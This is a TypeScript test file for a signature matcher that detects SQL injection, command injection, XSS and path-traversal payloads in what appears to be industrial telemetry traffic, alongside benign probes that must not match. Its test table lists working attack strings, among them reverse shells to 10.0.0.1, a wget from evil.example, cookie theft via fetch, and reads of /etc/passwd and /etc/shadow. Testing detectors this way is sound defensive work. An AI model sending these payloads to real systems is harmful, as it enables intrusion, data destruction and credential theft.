import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { DEFAULT_RULES_FILE, loadRuleFile, SignatureMatcher } from '../../src/inspection/index.ts';

const rules = loadRuleFile(DEFAULT_RULES_FILE);
const matcher = new SignatureMatcher(rules);
const ruleIds = (payload: string | Buffer, topic = 'plant/line1/telemetry'): string[] =>
  matcher
    .match(typeof payload === 'string' ? Buffer.from(payload, 'utf8') : payload, topic)
    .map((h) => h.rule.id);

/** True positives for every default rule: raw, mixed case, encoded. */
const TRUE_POSITIVES: Record<string, string[]> = {
  'sig.sqli.tautology': [
    `' OR '1'='1`,
    `admin' or 'a'='a`,
    `1 OR 1=1`,
    `' or ''='`,
    `" or ""="`,
    `x'or'1'='1`,
    `' OR true--`,
    `{"user":"\\u0027 or \\u00271\\u0027=\\u00271"}`,
    `name=%27%20OR%20%271%27%3D%271`,
    `q=%27+OR+%271%27%3D%271`,
    `'/**/or/**/1=1`,
  ],
  'sig.sqli.union_select': [
    `1 UNION SELECT username, password FROM users`,
    `-1 union all select null,null--`,
    `1 UnIoN/**/SeLeCt 1`,
    `1 union(select 1)`,
    `id=1%20UNION%20SELECT%201`,
  ],
  'sig.sqli.stacked_query': [
    `1'; DROP TABLE users;--`,
    `x; delete from accounts`,
    `1;insert into admins values(1)`,
    `'; EXEC xp_cmdshell 'dir'`,
    `1; WAITFOR DELAY '0:0:5'`,
    `1; update users set role='admin'`,
    `'; SHUTDOWN --`,
  ],
  'sig.sqli.comment_truncation': [`admin'--`, `admin' --`, `admin'#`, `admin'/*`, `{"user":"admin'--"}`],
  'sig.sqli.inline_comment_keyword': [`/*!50000select*/ 1`, `1 UN/**/ION SEL/**/ECT 2`],
  'sig.sqli.functions': [
    `'; exec master..xp_cmdshell 'ping'`,
    `1 and benchmark(5000000,md5(1))`,
    `select table_name from information_schema.tables`,
    `1 and pg_sleep(5)`,
    `load_file('/etc/passwd')`,
    `select 1 into outfile '/tmp/x'`,
  ],
  'sig.cmdi.chained_command': [
    `; cat /etc/passwd`,
    `x && rm -rf /`,
    `127.0.0.1 | sh`,
    `a; wget http://evil.example/x.sh`,
    `; id`,
    `|| whoami`,
    `name;uname -a`,
    `ok; busybox wget http://x`,
    `; ls -la /`,
    `host%3B%20cat%20%2Fetc%2Fpasswd`,
  ],
  'sig.cmdi.substitution': [`$(whoami)`, `name=$( cat /etc/passwd )`, `$(/bin/busybox telnetd)`],
  'sig.cmdi.backticks': ['`id`', 'file`cat /etc/shadow`', '` uname -a`'],
  'sig.cmdi.shell_payload': [
    `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`,
    `nc -e /bin/sh 10.0.0.1 4444`,
    'cat${IFS}/etc/passwd',
    `mkfifo /tmp/f`,
    `cmd.exe /c whoami`,
    `powershell -enc AAAA`,
  ],
  'sig.xss.script_tag': [
    `<script>alert(1)</script>`,
    `<SCRIPT src=//x.example/a.js>`,
    `{"name":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}`,
    `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
  ],
  'sig.xss.script_uri': [
    `javascript:alert(document.domain)`,
    `<a href="JavaScript:void(0)">`,
    `vbscript:msgbox(1)`,
    `data:text/html;base64,PHNjcmlwdD4=`,
  ],
  'sig.xss.event_handler': [
    `<img src=x onerror=alert(1)>`,
    `<svg/onload=alert(1)>`,
    `<body onfocus = "x()">`,
    `<div onmouseover='y()'>`,
    `<details open ontoggle=alert(1)>`,
  ],
  'sig.xss.dangerous_tag': [
    `<iframe src="//evil.example">`,
    `<svg><g/></svg>`,
    `<object data=x>`,
    `<embed src=x>`,
    `fetch('//x?'+document.cookie)`,
  ],
  'sig.traversal.dotdot': [
    `../../../etc/passwd`,
    `..\\..\\..\\windows\\win.ini`,
    `%2e%2e%2f%2e%2e%2f`,
    `..%2f..%2f..%2f`,
    `%252e%252e%252f%252e%252e%252f`,
    `....//....//etc`,
    `..;/..;/admin`,
    `%c0%ae%c0%ae/%c0%ae%c0%ae/`,
    `..%c0%af..%c0%af`,
    `{"file":"..\\/..\\/..\\/etc"}`,
  ],
  'sig.traversal.sensitive_file': [
    `../etc/passwd`,
    `file=..%2Fetc%2Fshadow`,
    `..\\windows\\system32`,
    `../proc/self/environ`,
    `C:\\windows\\win.ini`,
  ],
};

/** Realistic traffic that must never match. */
const PROBES: string[] = [
  `{"temp":21.5,"unit":"C"}`,
  `{"deviceId":"sensor-0042","ts":1732190000123,"readings":{"temp":21.5,"hum":40.2,"co2":612},"status":"ok"}`,
  `{"battery":87,"rssi":-71,"fw":"2.4.1","uptime_s":86400,"location":{"lat":52.52,"lon":13.405}}`,
  `{"alarm":false,"setpoint":22,"mode":"auto","schedule":[{"from":"06:00","to":"22:00"}]}`,
  `{"msg":"update available; restart later","level":"info"}`,
  `{"select":"auto","union":"EU","or":1,"drop":0,"id":7,"cat":"sensor"}`,
  `Temperature 21.5 C; humidity 40%; pressure 1013 hPa`,
  `Pump 3 running at 1450 rpm, vibration 2.1 mm/s, bearing temp 61 C`,
  `valve open or closed: open`,
  `select mode: auto or manual`,
  `Door sensor: OPEN (zone 4) - alarm armed = false`,
  `https://example.com/api/v1/devices?id=42&page=2&sort=desc`,
  `https://cdn.example.com/firmware/v2.4.1/image.bin?sig=abc%2Bdef%3D%3D&exp=1732190000`,
  `mqtts://broker.example.com:8883/plant/line1/telemetry`,
  `see ../README.md for details`,
  `2024-11-21T20:00:01Z INFO user 'bob' logged in from 10.0.0.7; session id "abc-123"`,
  `2024-11-21T20:00:02Z WARN device "sensor-0042" said: 'battery low' (87%)`,
  `Nov 21 20:00:03 gw01 sshd[123]: Accepted publickey for admin from 10.0.0.8 port 52022`,
  `127.0.0.1 - - [21/Nov/2024:20:00:04 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "curl/8.5.0"`,
  `It's 5 o'clock; the operator's shift ended -- handover done`,
  `price: $12.50 (incl. tax) & shipping`,
  `ls: 3 items; id: 42; cat: 7`,
  `<b>Status</b>: <i>ok</i>`,
  `C:\\ProgramData\\Sentinel\\logs\\agent.log`,
  `/var/lib/sentinel/data/2024/11/21.json`,
  `a || b`,
  `x = y or z`,
];

function firmwareChunks(count: number, size: number): string[] {
  const out: string[] = [];
  let seed = createHash('sha256').update('firmware').digest();
  for (let i = 0; i < count; i++) {
    const parts: Buffer[] = [];
    let n = 0;
    while (n < size) {
      seed = createHash('sha256').update(seed).digest();
      parts.push(seed);
      n += seed.length;
    }
    out.push(Buffer.concat(parts).subarray(0, size).toString('base64'));
  }
  return out;
}

describe('default signatures', () => {
  it('every default rule has true positives in this table, and the table names no unknown rule', () => {
    expect(Object.keys(TRUE_POSITIVES).sort()).toEqual(rules.rules.map((r) => r.id).sort());
  });

  it('seed severities and actions: SQLi high/block, cmdi critical/block, XSS high/block, traversal high/block', () => {
    const expected = {
      sqli: [7, 'block'],
      cmdi: [9, 'block'],
      xss: [7, 'block'],
      path_traversal: [7, 'block'],
    } as const;
    for (const r of rules.rules) {
      expect([r.severity, r.action], r.id).toEqual(expected[r.category as keyof typeof expected]);
      expect(r.technique).toBe('T1190');
    }
  });

  for (const [id, payloads] of Object.entries(TRUE_POSITIVES)) {
    describe(id, () => {
      for (const p of payloads) {
        it(`matches ${JSON.stringify(p)}`, () => {
          expect(ruleIds(p)).toContain(id);
        });
      }
    });
  }

  it('no rule matches realistic telemetry, sensor text, URLs or log lines', () => {
    const hits = PROBES.map((p) => [p, ruleIds(p)] as const).filter(([, ids]) => ids.length > 0);
    expect(hits).toEqual([]);
  });

  it('no rule matches 2,000 base64 firmware chunks of 4 KB', () => {
    const hits = firmwareChunks(2000, 3072).filter((c) => ruleIds(c).length > 0);
    expect(hits).toEqual([]);
  });

  it('no rule matches JSON telemetry encoded as JSON inside JSON (escaped quotes)', () => {
    for (const p of PROBES) expect(ruleIds(JSON.stringify({ payload: p })), p).toEqual([]);
  });

  it('reports what matched with context, escaped for display', () => {
    const [hit] = matcher.match(Buffer.from(`\x1b[31m; cat /etc/passwd\x00\n`), 't');
    expect(hit?.rule.id).toBe('sig.cmdi.chained_command');
    expect(hit?.matched).toBe('\\x1b[31m; cat /etc/passwd\\x00\\x0a');
    expect([...(hit?.matched ?? '')].every((c) => c.charCodeAt(0) >= 0x20 && c.charCodeAt(0) < 0x7f)).toBe(
      true,
    );
  });

  it('says whether a match was found only after decoding', () => {
    const [raw] = matcher.match(Buffer.from('../../etc'), 't');
    const [enc] = matcher.match(Buffer.from('%2e%2e%2f%2e%2e%2fetc'), 't');
    expect(raw?.decoded).toBe(false);
    expect(enc?.decoded).toBe(true);
  });
});
